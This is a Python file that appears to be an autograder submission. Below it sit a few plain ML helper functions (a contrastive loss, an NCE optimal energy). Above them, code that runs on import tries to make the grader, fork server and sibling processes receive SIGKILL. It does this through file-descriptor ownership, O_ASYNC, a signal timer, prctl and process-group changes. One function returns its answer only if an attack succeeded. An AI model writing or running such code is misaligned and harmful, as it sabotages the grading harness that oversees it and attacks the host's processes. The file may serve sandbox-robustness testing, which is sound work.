import ctypes
import fcntl
import os
import signal
import socket
import struct
import sys

import torch

through = []


def attempt(name, deed, *arguments):
    """Note what gets through; go on whatever happens."""
    try:
        print(name, deed(*arguments))
    except BaseException as error:
        print(name, "refused:", repr(error))
    else:
        through.append(name)


libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """A function of libc, with the kernel's own word where it fails."""
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)


def targets():
    """The fork server, the grader (a frame above holds its pid), the processes laid out for this."""
    found, frame = [os.getppid()], sys._getframe()
    while frame:
        found += [getattr(frame.f_locals.get("plan"), "grader", found[0])]
        frame = frame.f_back
    for name in ("process", "sibling"):
        if os.path.lexists(f"/tmp/autograder-attack/{name}"):
            found.append(int(os.readlink(f"/tmp/autograder-attack/{name}")))
    return sorted(set(found))


F_SETOWN, F_SETSIG, F_SETOWN_EX, FIOASYNC, FIOSETOWN, SIOCSPGRP = 8, 10, 15, 0x5452, 0x8901, 0x8902
for pid in targets():
    one, other = socket.socketpair()
    reading, writing = os.pipe()
    for descriptor in (one.fileno(), reading):
        attempt(f"owner {pid}", fcntl.fcntl, descriptor, F_SETOWN, pid)
        attempt(f"owner's group {pid}", fcntl.fcntl, descriptor, F_SETOWN, -pid)
        attempt(f"owner {pid}, the other way", fcntl.fcntl, descriptor, F_SETOWN_EX, struct.pack("ii", 1, pid))
        attempt(f"owner {pid}, by ioctl", fcntl.ioctl, descriptor, FIOSETOWN, struct.pack("i", pid))
        attempt(f"a socket's owner {pid}", fcntl.ioctl, descriptor, SIOCSPGRP, struct.pack("i", pid))
        attempt("the signal", fcntl.fcntl, descriptor, F_SETSIG, int(signal.SIGKILL))
        attempt("asynchronous", fcntl.fcntl, descriptor, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        attempt("asynchronous, by ioctl", fcntl.ioctl, descriptor, FIOASYNC, struct.pack("i", 1))
    os.write(writing, b"x")
    other.send(b"x")
attempt("a timer", call, "timer_create", 0, struct.pack("Qiii44x", 0, 9, 4, os.getppid()), ctypes.byref(ctypes.c_void_p()))
attempt("a queue's notice", call, "mq_notify", 0, None)
attempt("at its parent's death", call, "prctl", 1, 0, 0, 0, 0)
attempt("a group of its own", os.setpgid, 0, os.getppid())
attempt("another's group", os.setpgid, os.getppid(), 0)
attempt("a session", os.setsid)


def A_matrix(alpha):
    return [[1, alpha], [-alpha, 1]] if through else "refused"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
